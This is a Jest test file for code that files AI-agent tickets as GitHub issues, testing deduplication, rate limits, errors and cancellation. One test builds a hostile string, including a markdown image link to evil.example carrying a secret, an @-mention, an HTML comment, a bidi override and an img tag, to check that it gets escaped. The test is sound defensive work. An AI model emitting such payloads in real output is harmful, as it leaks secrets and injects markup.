import { afterEach, beforeEach, describe, expect, it } from '@jest/globals'
import { connectGitHub, type GitHubApi } from '../../../src/action/github/github-api.js'
import { fileTickets, MOST_ISSUES, type FilingOptions } from '../../../src/action/issues/issues.js'
import { ticketMark } from '../../../src/action/issues/issue-text.js'
import { createRedactor } from '../../../src/session/redaction/redact.js'
import {
  STAND_IN_REPOSITORY,
  STAND_IN_TOKEN,
  startGitHubApi,
  type GitHubStandIn
} from '../../support/github-api.js'
import type { Ticket } from '../../../src/session/record/ticket.js'

const SECRET = 'correct_horse*battery|staple'
const BUG: Ticket = { type: 'bug', title: 'Divide by zero', agent: 'QA' }
const TASK: Ticket = { type: 'task', title: 'Write the guide', agent: 'PM' }

let github: GitHubStandIn
let api: GitHubApi
let warnings: string[]
let waits: number[]

beforeEach(async () => {
  github = await startGitHubApi()
  api = connectGitHub({ token: STAND_IN_TOKEN, repository: STAND_IN_REPOSITORY, apiUrl: github.url })
  warnings = []
  waits = []
})

afterEach(() => github.close())

function file(
  tickets: readonly Ticket[],
  differences: Partial<FilingOptions> = {}
): Promise<readonly Ticket[]> {
  return fileTickets(tickets, {
    api,
    runUrl: 'https://github.com/octo/calculator/actions/runs/42',
    redact: (text) => createRedactor([SECRET]).redact(text),
    warn: (message) => void warnings.push(message),
    wait: (milliseconds) => Promise.resolve(void waits.push(milliseconds)),
    ...differences
  })
}

const many = (count: number): Ticket[] =>
  Array.from({ length: count }, (_, index) => ({ type: 'task', title: `Task ${index}` }))

describe('tickets as issues', () => {
  it('are filed with labels, the run, the agent and a mark', async () => {
    const filed = await file([BUG, TASK])
    expect(github.issues).toMatchObject([
      {
        title: 'Divide by zero',
        labels: ['mpm', 'bug'],
        body: expect.stringMatching(
          /^<!-- mpm-orchestrator:ticket [^]*> Divide by zero[^]*\*\*QA\*\*[^]*\(bug\)[^]*actions\/runs\/42/
        )
      },
      { title: 'Write the guide', labels: ['mpm', 'task'] }
    ])
    expect(filed).toEqual([
      { ...BUG, number: 1000, url: `https://github.com/${STAND_IN_REPOSITORY}/issues/1000`, created: true },
      { ...TASK, number: 1001, url: `https://github.com/${STAND_IN_REPOSITORY}/issues/1001`, created: true }
    ])
    expect([waits, warnings]).toEqual([[1000], []])
  })

  it('are filed once, against each other and against open issues', async () => {
    await file([BUG])
    const again = await file([{ ...BUG, title: 'DIVIDE  by zero', agent: 'Engineer' }, TASK, TASK])
    expect(github.issues.map(({ title }) => title)).toEqual(['Divide by zero', 'Write the guide'])
    expect(again.map(({ number }) => number)).toEqual([1000, 1001, 1001])
    expect(again.map(({ created }) => created)).toEqual([false, true, true])
    expect(ticketMark({ ...BUG, type: 'task' })).not.toBe(ticketMark(BUG))
  })

  it('end up as one issue when two sessions file them concurrently', async () => {
    // Both look before either files.
    let looking = 0
    let goOn = (): void => undefined
    const bothLooked = new Promise<void>((resolve) => (goOn = resolve))
    const meeting: GitHubApi = {
      ...api,
      listOpenIssues: async (...args) => {
        const found = await api.listOpenIssues(...args)
        if ((looking += 1) === 2) goOn()
        await bothLooked
        return found
      }
    }
    const both = await Promise.all([file([BUG], { api: meeting }), file([BUG], { api: meeting })])
    expect(github.issues.map(({ state }) => state)).toEqual(['open', 'closed'])
    expect(both.flat().map(({ number }) => number)).toEqual([1000, 1000])
    expect(both.flat().filter(({ created }) => created)).toHaveLength(1)
  })

  it('are found among hundreds of open issues, and filed again if theirs was closed', async () => {
    const issue = { title: 'x', labels: ['mpm'], state: 'open' } as const
    github.issues.push({ ...issue, number: 1, body: `${ticketMark(BUG)}\nold` })
    github.issues.push({ ...issue, number: 2, body: `${ticketMark(TASK)}\nold`, state: 'closed' })
    for (let number = 3; number <= 220; number++) github.issues.push({ ...issue, number, body: 'other' })
    const filed = await file([BUG, TASK])
    expect(filed.map(({ number }) => number)).toEqual([1, 1000])
  })

  it('do not believe a mark without the label, which strangers cannot set', async () => {
    github.issues.push({ number: 1, title: 'x', body: ticketMark(BUG), labels: [], state: 'open' })
    expect(await file([BUG])).toMatchObject([{ number: 1000 }])
  })

  it('are limited in number, with a warning', async () => {
    const filed = await file(many(MOST_ISSUES + 5))
    expect(github.issues).toHaveLength(MOST_ISSUES)
    expect(filed.filter(({ number }) => number === undefined)).toHaveLength(5)
    expect(warnings).toEqual([expect.stringMatching(/20 issues at most; 5 further/)])
    expect(waits).toEqual(Array(MOST_ISSUES - 1).fill(1000))
  })

  it("escape agents' text, mention nobody and contain no secret", async () => {
    const hostile = `@octo/team fixes #12 <!-- --> ![x](https://evil.example/${SECRET}) \u202e<img src=x> ${'y'.repeat(400)}`
    await file([{ type: 'bug', title: hostile, agent: hostile }])
    const { title = '', body = '' } = github.issues[0] ?? {}
    const shown = body.replace(/^<!--.*?-->/, '')
    expect(shown).not.toMatch(/correct_?horse|(?<!\\)!\[|@octo|#12|<!--|<img|\u202e|https:\/\/evil/)
    expect([title.length <= 203, title.includes(SECRET), title.includes('\u202e')]).toEqual([
      true,
      false,
      false
    ])
  })

  it.each([
    [403, /issues: write/],
    [404, /issues: write/],
    [410, /Issues are turned off/],
    [500, /status 500/]
  ])('say what is missing at status %d, and stop', async (status, expected) => {
    github.chooseFault = (operation) => (operation === 'issues/create' ? { status } : undefined)
    expect(await file([BUG, TASK])).toEqual([BUG, TASK])
    expect(warnings).toEqual([expect.stringMatching(expected)])
    expect(github.calls.filter((call) => call === 'issues/create')).toHaveLength(1)
  })

  it('leave out one that GitHub rejects', async () => {
    github.chooseFault = (operation, count) =>
      operation === 'issues/create' && count === 1 ? { status: 422 } : undefined
    expect(await file([BUG, TASK])).toMatchObject([BUG, { number: 1000 }])
    expect(warnings).toEqual([expect.stringMatching(/"Divide by zero" was not accepted.*422/)])
  })

  it('wait as long as GitHub asks', async () => {
    github.chooseFault = (operation, count) =>
      operation === 'issues/create' && count === 1
        ? { status: 403, headers: { 'retry-after': '9' } }
        : undefined
    expect(await file([BUG])).toMatchObject([{ number: 1000 }])
    expect([waits, warnings]).toEqual([[9000], []])
  })

  it('are not filed after a cancel', async () => {
    const controller = new AbortController()
    github.onCall = (operation) => {
      if (operation === 'issues/create') controller.abort()
    }
    await file([BUG, TASK], { signal: controller.signal })
    expect(github.issues).toHaveLength(1)
    expect(warnings).toEqual([expect.stringMatching(/cancelled/)])
  })

  it('send no request if there are none', async () => {
    expect(await file([])).toEqual([])
    expect(github.calls).toEqual([])
  })
})
